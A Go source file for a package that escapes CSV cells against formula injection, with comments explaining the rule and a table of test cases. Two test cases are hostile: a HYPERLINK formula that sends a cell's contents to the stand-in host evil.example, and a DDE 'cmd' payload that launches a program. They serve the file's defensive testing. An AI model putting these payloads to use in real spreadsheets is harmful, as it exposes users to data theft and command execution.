// Package csvcell keeps a spreadsheet from running what a CSV cell holds (CSV, or
// formula, injection): every CSV the project writes passes its text cells through
// Escape, and every CSV it reads back through Unescape.
//
// The rule (OWASP's advice, made reversible):
//
//   - a cell that starts with =, +, -, @, a tab or a carriage return — the characters a
//     spreadsheet reads as the start of a formula — gets a leading apostrophe ('), which
//     spreadsheets take as "this is text" and do not show;
//   - a cell that already starts with an apostrophe gets one more, so that reading back is
//     unambiguous: Unescape removes exactly one leading apostrophe, and only there;
//   - a cell that is a plain decimal number (-0.5, +3, 1e-05: an optional sign, digits, an
//     optional fraction and exponent) is left alone: a spreadsheet reads it as the
//     number it is, which runs nothing, and numeric columns stay numeric.
//
// JSON keeps the true value: only CSV cells are escaped. The site's open-data CSV is
// written by tools/opendata, through Escape too.
package csvcell

import (
	"regexp"
	"strings"
)

// Triggers are the first characters that make a cell escaped: the formula starters and
// the apostrophe itself.
const Triggers = "=+-@\t\r'"

// Number is the expression of a plain decimal number: a cell left alone although it
// starts with + or -. The Hugo partial uses the same expression.
const Number = `^[+-]?[0-9]+(\.[0-9]+)?([eE][+-]?[0-9]+)?$`

var number = regexp.MustCompile(Number)

// Escape returns the cell as it is to be written in a CSV file.
func Escape(s string) string {
	if s == "" || !strings.ContainsRune(Triggers, rune(s[0])) {
		return s
	}
	if (s[0] == '-' || s[0] == '+') && number.MatchString(s) {
		return s
	}
	return "'" + s
}

// Unescape returns the value of a cell read from a CSV file that Escape wrote (or a
// person edited): without its first character when that is an apostrophe.
func Unescape(s string) string {
	return strings.TrimPrefix(s, "'")
}

// Row escapes every cell of a record, in place, and returns it.
func Row(rec []string) []string {
	for i, s := range rec {
		rec[i] = Escape(s)
	}
	return rec
}

// Cases are tricky cells and how they are written: the table both implementations (this
// package and the Hugo partial) are tested against.
var Cases = []struct{ In, Out string }{
	{"", ""},
	{"plain text", "plain text"},
	{"=1+1", "'=1+1"},
	{`=HYPERLINK("https://evil.example/?"&A1,"click")`, `'=HYPERLINK("https://evil.example/?"&A1,"click")`},
	{"+1 613 555 0100", "'+1 613 555 0100"},
	{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
	{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
	{"\t=1", "'\t=1"},
	{"\r=1", "'\r=1"},
	{"'already quoted", "''already quoted"},
	{"''", "'''"},
	{"'", "''"},
	{"-", "'-"},
	{"+", "'+"},
	{"-0.5", "-0.5"},
	{"+3", "+3"},
	{"-12", "-12"},
	{"1e-05", "1e-05"},
	{"-1.5E+10", "-1.5E+10"},
	{"-.5", "'-.5"},
	{"-1,5", "'-1,5"},
	{"- list item", "'- list item"},
	{"-Inf", "'-Inf"},
	{"0.25", "0.25"},
	{" =1", " =1"},
	{"a=1", "a=1"},
	{"\n=1", "\n=1"},
	{"=", "'="},
	{"é=1", "é=1"},
	{"«\u00a0=\u00a0»", "«\u00a0=\u00a0»"},
}
